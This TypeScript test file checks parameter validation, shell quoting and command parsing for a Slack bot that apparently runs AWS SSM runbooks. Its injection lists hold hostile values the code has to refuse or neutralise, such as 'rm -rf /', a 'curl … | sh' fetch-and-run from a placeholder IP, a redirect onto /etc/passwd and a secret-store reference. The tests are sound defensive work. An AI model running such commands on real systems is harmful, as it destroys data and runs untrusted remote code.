import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Runbook, RunbookParameter } from '../../../../services/config/config';
import { parseConfig } from '../../../../services/config/config';
import {
  checkAdHocCommand,
  checkParameterValue,
  documentParameters,
  parseRunCommand,
  powershellQuote,
  resolveParameters,
  runComment,
  shellQuote,
  tokenize,
} from '../../../../services/runs/params';
import { BadInputError } from '../../../../services/shared/errors';

function param(overrides: Partial<RunbookParameter> = {}): RunbookParameter {
  return {
    name: 'value',
    description: '',
    type: 'string',
    pattern: '.*',
    allowShellMetacharacters: false,
    ...overrides,
  } as RunbookParameter;
}

function runbook(overrides: Partial<Runbook> = {}): Runbook {
  return {
    description: '',
    document: 'AWS-RunShellScript',
    region: 'eu-west-1',
    commands: ['printf %s {{ value }}'],
    parameters: [param()],
    targets: ['i-0123456789abcdef0'],
    allowed: { users: [], userGroups: [] },
    approval: { required: false, approvers: { users: [], userGroups: [] } },
    approvalExpiry: 1800,
    timeout: 600,
    maxOutputChars: 2500,
    ...overrides,
  } as Runbook;
}

/** The injection attempts every parameter without metacharacters must refuse. */
const INJECTIONS: [string, string][] = [
  ['a command after ;', 'nginx; rm -rf /'],
  ['command substitution', '$(curl 203.0.113.9|sh)'],
  ['backticks', '`id`'],
  ['a newline', 'nginx\nrm -rf /'],
  ['a carriage return', 'nginx\rreboot'],
  ['single quotes', "x' ; reboot ; '"],
  ['double quotes', 'x" ; reboot ; "'],
  ['&&', 'nginx && reboot'],
  ['a pipe', 'nginx|sh'],
  ['a redirect', 'x>/etc/passwd'],
  ['a variable', '$HOME'],
  ['a glob', '/etc/*'],
  ['a space', 'two words'],
  ['an SSM parameter reference', '{{ssm:/sg-warden/prod/slack-bot-token}}'],
  ['a leading dash (an option)', '--help'],
  ['a bidi override', 'abc\u202edcba'],
  ['a NUL', 'a\u0000b'],
];

describe('run-params', () => {
  describe('checkParameterValue', () => {
    it.each(INJECTIONS)('refuses %s', (_name, value) => {
      expect(checkParameterValue(param(), value)).not.toBeNull();
    });

    it.each([
      ['nginx'],
      ['/var/log/syslog'],
      ['web-1.prod:8080'],
      ['user@example.com'],
      ['a=b,c+d%2F'],
      [''],
    ])('accepts the plain value %j', (value) => {
      expect(checkParameterValue(param(), value)).toBeNull();
    });

    it('names the characters it refuses', () => {
      expect(checkParameterValue(param(), 'a; b|c')).toBe(
        'contains ";", a space, "|": only letters, digits and _ . : / @ % + , = - are allowed',
      );
      expect(checkParameterValue(param(), 'a\nb')).toBe('contains a newline, which is never allowed');
    });

    it('lets a metacharacter parameter hold ; $( ) ` | & quotes and spaces', () => {
      const meta = param({ allowShellMetacharacters: true });
      for (const value of ['nginx; rm -rf /', '$(id) `id` a|b && c', `it's "quoted"`, '--help'])
        expect(checkParameterValue(meta, value)).toBeNull();
    });

    it('refuses control characters and {{ }} even where metacharacters are allowed', () => {
      const meta = param({ allowShellMetacharacters: true });
      expect(checkParameterValue(meta, 'a\nb')).toMatch(/newline/);
      expect(checkParameterValue(meta, 'tab\there')).toMatch(/tab/);
      expect(checkParameterValue(meta, '{{ssm:/x}}')).toMatch(/parameter reference/);
      expect(checkParameterValue(meta, 'x'.repeat(1025))).toMatch(/longer than 1024/);
    });

    it('matches the whole value against the pattern, not a part of it', () => {
      const p = param({ pattern: '[a-z]+' });
      expect(checkParameterValue(p, 'nginx')).toBeNull();
      expect(checkParameterValue(p, 'nginx2')).toBe('does not match [a-z]+');
      expect(checkParameterValue(param({ pattern: 'a|b', allowShellMetacharacters: true }), 'ab')).toBe(
        'does not match a|b',
      );
    });

    it('accepts only enum members', () => {
      const p = param({ pattern: undefined, enum: ['nginx', 'php-fpm'] });
      expect(checkParameterValue(p, 'php-fpm')).toBeNull();
      expect(checkParameterValue(p, 'sshd')).toBe('is not one of nginx, php-fpm');
    });

    it('checks integers and their range', () => {
      const p = param({ type: 'integer', pattern: undefined, min: 1, max: 1000 });
      expect(checkParameterValue(p, '200')).toBeNull();
      expect(checkParameterValue(p, '0')).toBe('is less than 1');
      expect(checkParameterValue(p, '1001')).toBe('is more than 1000');
      for (const bad of ['1e3', '12; ls', '0x10', ' 5', '$(id)'])
        expect(checkParameterValue(p, bad)).not.toBeNull();
    });
  });

  describe('quoting', () => {
    const nasty = [
      'plain',
      "it's",
      "''''",
      `"$(touch CANARY)"`,
      '`touch CANARY`',
      '; touch CANARY',
      '&& touch CANARY || touch CANARY',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${…}, on purpose
      '$HOME ${PATH} $((1+1))',
      '\\\\ \\n \\',
      '* ? [a-z] ~',
      'tail > CANARY < /etc/passwd',
      "'\"'\"'; touch CANARY; '",
      'ünïcødé ✓',
    ];

    it('shellQuote wraps in single quotes and writes each quote as closed, quoted, reopened', () => {
      expect(shellQuote('abc')).toBe("'abc'");
      expect(shellQuote("it's")).toBe(`'it'"'"'s'`);
    });

    it('powershellQuote doubles every single-quote character, curly ones too', () => {
      expect(powershellQuote("it's")).toBe("'it''s'");
      expect(powershellQuote('a\u2019b')).toBe("'a\u2019\u2019b'");
      expect(powershellQuote('$env:PATH; Remove-Item')).toBe("'$env:PATH; Remove-Item'");
    });

    it.each(['sh', 'bash'])(
      'the script sent for AWS-RunShellScript prints every value exactly and runs nothing else (%s)',
      (shell) => {
        const dir = mkdtempSync(join(tmpdir(), 'sg-run-quote-'));
        const rb = runbook({
          commands: ['printf "%s" {{ value }}'],
          parameters: [param({ allowShellMetacharacters: true })],
        });
        for (const value of nasty) {
          const values = resolveParameters(rb, [['value', value]]);
          const script = documentParameters(rb, values, 'posix').commands!.join('\n');
          const out = spawnSync(shell, ['-c', script], { cwd: dir, encoding: 'utf8' });
          expect({ value, stdout: out.stdout, status: out.status }).toEqual({
            value,
            stdout: value,
            status: 0,
          });
        }
        expect(existsSync(join(dir, 'CANARY'))).toBe(false);
        expect(readdirSync(dir)).toEqual([]);
      },
    );

    it('keeps a value one argument even where it has spaces and glob characters', () => {
      const rb = runbook({
        commands: ['set -- {{ value }}; printf "%s" "$#"'],
        parameters: [param({ allowShellMetacharacters: true })],
      });
      const script = documentParameters(rb, resolveParameters(rb, [['value', 'a b * c']]), 'posix').commands!;
      expect(spawnSync('sh', ['-c', script.join('\n')], { encoding: 'utf8' }).stdout).toBe('1');
    });
  });

  describe('documentParameters', () => {
    it('writes a quoted assignment per parameter, then the fixed lines with variable references', () => {
      const rb = runbook({
        commands: ['journalctl -u {{ unit }} -n {{lines}} --no-pager'],
        parameters: [
          param({ name: 'unit', pattern: undefined, enum: ['nginx', 'php-fpm'] }),
          param({ name: 'lines', type: 'integer', pattern: undefined, default: '100' }),
        ],
        timeout: 300,
      });
      const values = resolveParameters(rb, [['unit', 'nginx']]);

      expect(documentParameters(rb, values, 'posix')).toEqual({
        commands: [
          "SGW_unit='nginx'",
          "SGW_lines='100'",
          // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${…}, on purpose
          'journalctl -u "${SGW_unit}" -n "${SGW_lines}" --no-pager',
        ],
        executionTimeout: ['300'],
      });
      expect(documentParameters(rb, values, 'powershell')).toEqual({
        commands: [
          "$SGW_unit = 'nginx'",
          "$SGW_lines = '100'",
          'journalctl -u $SGW_unit -n $SGW_lines --no-pager',
        ],
        executionTimeout: ['300'],
      });
    });

    it('passes values as the document’s own parameters for any other document', () => {
      const rb = runbook({
        document: 'Acme-RestartService',
        commands: [],
        parameters: [param({ name: 'service' })],
      });
      expect(documentParameters(rb, { service: 'nginx' }, null)).toEqual({ service: ['nginx'] });
    });
  });

  describe('resolveParameters', () => {
    const rb = runbook({
      commands: ['x {{ unit }} {{ lines }}'],
      parameters: [
        param({ name: 'unit', pattern: '[a-z-]+' }),
        param({ name: 'lines', type: 'integer', pattern: undefined, default: '50', max: 500 }),
      ],
    });

    it('fills defaults and keeps given values', () => {
      expect(resolveParameters(rb, [['unit', 'nginx']])).toEqual({ unit: 'nginx', lines: '50' });
    });

    it('names every problem at once and sends nothing', () => {
      let error: unknown;
      try {
        resolveParameters(rb, [
          ['lines', '5000'],
          ['lines', '1'],
          ['colour', 'red'],
        ]);
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(BadInputError);
      expect((error as Error).message).toBe(
        'Refused, nothing was sent: `lines` is given twice; `colour` is not a parameter of this runbook; `unit` is required; `lines` is more than 500.',
      );
    });
  });

  describe('parseRunCommand', () => {
    it('reads help, list and status', () => {
      expect(parseRunCommand('')).toEqual({ kind: 'help' });
      expect(parseRunCommand(' help ')).toEqual({ kind: 'help' });
      expect(parseRunCommand('list')).toEqual({ kind: 'list' });
      expect(parseRunCommand('status r-0a1b2c3d4e')).toEqual({ kind: 'status', runId: 'r-0a1b2c3d4e' });
      expect(() => parseRunCommand('status 42')).toThrow(BadInputError);
    });

    it('reads a runbook, a target and name=value pairs, with quoted values', () => {
      expect(parseRunCommand('tail-logs web-prod lines=20 grep="connection refused" x=“a b”')).toEqual({
        kind: 'run',
        runbook: 'tail-logs',
        target: 'web-prod',
        assignments: [
          ['lines', '20'],
          ['grep', 'connection refused'],
          ['x', 'a b'],
        ],
      });
    });

    it('reads a left-out target as null, also before name=value pairs', () => {
      expect(parseRunCommand('restart-web')).toEqual({
        kind: 'run',
        runbook: 'restart-web',
        target: null,
        assignments: [],
      });
      expect(parseRunCommand('restart-web unit=nginx')).toEqual({
        kind: 'run',
        runbook: 'restart-web',
        target: null,
        assignments: [['unit', 'nginx']],
      });
    });

    it('reads Slack’s escaped & < > as the characters themselves', () => {
      expect(parseRunCommand('restart web unit=nginx&amp;&amp;reboot')).toMatchObject({
        assignments: [['unit', 'nginx&&reboot']],
      });
    });

    it('refuses words after a newline that are not name=value', () => {
      expect(() => parseRunCommand('restart web unit=nginx\nrm -rf /')).toThrow(
        '"rm" is not a name=value parameter; nothing was sent. Values with spaces go in double quotes.',
      );
    });

    it('keeps a quoted newline in the value, where the value check refuses it', () => {
      const request = parseRunCommand('restart web unit="nginx\nreboot"');
      expect(request).toMatchObject({ assignments: [['unit', 'nginx\nreboot']] });
    });

    it('refuses an open quote', () => {
      expect(() => tokenize('a "b')).toThrow('A double quote is not closed.');
    });

    it('reads an ad-hoc command as the rest of the line', () => {
      expect(parseRunCommand('adhoc i-0123456789abcdef0 df -h | sort &amp;&amp; uptime')).toEqual({
        kind: 'adhoc',
        target: 'i-0123456789abcdef0',
        command: 'df -h | sort && uptime',
      });
    });
  });

  describe('checkAdHocCommand', () => {
    it('keeps one line and refuses more, and refuses SSM parameter references', () => {
      expect(checkAdHocCommand('uptime && df -h')).toBe('uptime && df -h');
      expect(() => checkAdHocCommand('uptime\nreboot')).toThrow(/newline/);
      expect(() => checkAdHocCommand('echo {{ssm:/sg-warden/slack-bot-token}}')).toThrow(
        /parameter reference/,
      );
    });
  });

  describe('runComment', () => {
    it('names the run and the Slack user within 100 printable characters', () => {
      expect(runComment('r-0a1b2c3d4e', { userId: 'U0ENGINEER', userName: 'erin' })).toBe(
        'sg-warden r-0a1b2c3d4e by erin (U0ENGINEER)',
      );
      const long = runComment('r-0a1b2c3d4e', { userId: 'U0ENGINEER', userName: `${'é'.repeat(150)}` });
      expect(long.length).toBeLessThanOrEqual(100);
      expect(long).toMatch(/^sg-warden r-0a1b2c3d4e by \?+~ \(U0ENGINEER\)$/);
    });
  });

  describe('config', () => {
    const yaml = (...lines: string[]) =>
      [
        'slack:',
        '  alertChannel: C0TEST',
        'runbooks:',
        '  targets:',
        '    web: { region: eu-west-1, tags: { Role: web } }',
        ...lines,
      ].join('\n');
    const errorOf = (text: string) => {
      try {
        parseConfig(text, 'f.yml');
      } catch (e) {
        return (e as Error).message;
      }
      return 'no error';
    };

    it('accepts a runbook with typed parameters and fills their defaults', () => {
      const config = parseConfig(
        yaml(
          '  items:',
          '    tail-logs:',
          '      region: eu-west-1',
          '      targets: [web, i-0123456789abcdef0]',
          '      commands: ["tail -n {{ lines }} {{ file }}"]',
          '      parameters:',
          '        - { name: lines, type: integer, min: 1, max: 500, default: 100 }',
          '        - { name: file, enum: [/var/log/syslog, /var/log/nginx/error.log] }',
        ),
        'f.yml',
      );
      expect(config.runbooks.items['tail-logs']!.parameters[0]).toMatchObject({
        type: 'integer',
        default: '100',
      });
    });

    it.each([
      [
        'a placeholder naming no parameter',
        ['      commands: ["echo {{ nope }}"]'],
        'runbooks.items.rb.commands.0: {{ nope }} is not a declared parameter',
      ],
      [
        'a parameter no command uses',
        ['      commands: ["uptime"]', '      parameters: [{ name: unused, pattern: "x" }]'],
        'runbooks.items.rb.parameters.0: "unused" is not used by any command ({{ unused }})',
      ],
      [
        'a default that breaks the rules',
        [
          '      commands: ["echo {{ v }}"]',
          '      parameters: [{ name: v, pattern: ".*", default: "a;b" }]',
        ],
        'runbooks.items.rb.parameters.0.default: "a;b" contains ";"',
      ],
      [
        'a pattern that is not a regular expression',
        ['      commands: ["echo {{ v }}"]', '      parameters: [{ name: v, pattern: "(" }]'],
        'runbooks.items.rb.parameters.0.pattern: is not a valid regular expression',
      ],
      [
        'an unknown target alias',
        ['      commands: ["uptime"]', '      targets: [db]'],
        'runbooks.items.rb.targets.0: "db" is neither an instance ID (i-…) nor an alias in runbooks.targets',
      ],
      [
        'commands for a document that takes its own parameters',
        ['      document: Acme-Restart', '      commands: ["uptime"]'],
        'runbooks.items.rb.commands: only AWS-RunShellScript and AWS-RunPowerShellScript take commands',
      ],
      [
        'a timeout beyond 48 hours',
        ['      commands: ["uptime"]', '      timeout: 3d'],
        'runbooks.items.rb.timeout: must be between 30s and 48h',
      ],
    ])('names the field for %s', (_name, lines, message) => {
      const targets = lines.some((l) => l.includes('targets:')) ? [] : ['      targets: [web]'];
      expect(errorOf(yaml('  items:', '    rb:', '      region: eu-west-1', ...targets, ...lines))).toContain(
        message,
      );
    });

    it('refuses a runbook named like a sub-command and ad-hoc commands without settings', () => {
      expect(
        errorOf(
          yaml(
            '  items:',
            '    list:',
            '      region: eu-west-1',
            '      targets: [web]',
            '      commands: [uptime]',
          ),
        ),
      ).toContain('runbooks.items.list: "list" is a /sg-run sub-command');
      expect(errorOf(yaml('  allowAdHoc: true'))).toContain(
        'runbooks.adHoc: is required when allowAdHoc is true',
      );
      expect(errorOf(yaml('  allowAdHoc: true', '  adHoc: { region: eu-west-1, targets: [web] }'))).toContain(
        'runbooks.adHoc.allowed: must name users or userGroups',
      );
    });

    it('refuses a target alias in another region than the runbook', () => {
      expect(
        errorOf(
          yaml(
            '  items:',
            '    rb:',
            '      region: us-east-1',
            '      targets: [web]',
            '      commands: [uptime]',
          ),
        ),
      ).toContain('runbooks.items.rb.targets.0: "web" is in eu-west-1, but this runs in us-east-1');
    });
  });
});
